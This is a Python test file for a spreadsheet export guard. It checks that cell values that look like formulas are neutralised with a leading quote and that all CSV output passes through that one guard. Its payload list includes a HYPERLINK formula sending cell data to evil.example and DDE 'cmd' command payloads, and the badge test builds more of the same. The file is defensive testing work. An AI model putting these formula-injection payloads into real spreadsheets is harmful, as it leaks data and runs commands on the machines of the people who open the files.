"""Tables for spreadsheets: no cell of one is ever run, whoever typed it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from backend.render.tables.badges import badge_lines
from backend.render.tables.cells import Sheet, harmless
from tests.house.source import ROOT

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u3000＝1", "\ufeff=1", "\u200b=1", "\x00=1",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_shown_and_not_run(attack: str) -> None:
    assert harmless(attack) == "'" + attack
    out = io.StringIO(newline="")
    Sheet(out).write([attack, attack])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == ["'" + attack] * 2


@pytest.mark.parametrize("text", ["成都", "a=b", "1-2", "", "'x", "№000001", "CHN-2026"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    out = io.StringIO()
    Sheet(out).write([-5, Decimal("-0.5"), Decimal("1E+2"), 1.5])
    assert out.getvalue() == "-5,-0.5,100,1.5\r\n"


def test_what_an_organiser_typed_about_a_badge_is_not_run() -> None:
    typed = {name: f"=cmd|'{name}'!A0" for name in ("category", "holder_ref", "label", "alias")}
    line = badge_lines(lambda serial: f"B{serial}", "https://x.example", [{"serial": 1, **typed}]).decode()
    assert next(csv.reader([line]))[3:] == ["'" + each for each in typed.values()]


def test_every_table_is_written_through_the_one_guard() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "backend").rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8")
        or "DictWriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["backend/render/tables/cells.py"]
